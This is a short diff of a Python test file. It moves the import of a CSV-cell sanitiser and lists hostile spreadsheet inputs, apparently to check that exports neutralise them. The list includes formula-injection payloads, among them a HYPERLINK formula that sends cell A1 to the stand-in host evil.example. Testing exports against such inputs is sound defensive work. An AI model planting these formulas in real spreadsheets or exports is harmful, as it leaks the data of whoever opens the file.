@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
-from core.csv_export import safe_cell
+from core.exports import safe_cell
 from tests.core.reports.test_service_quality import _ticket, this_month
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"]
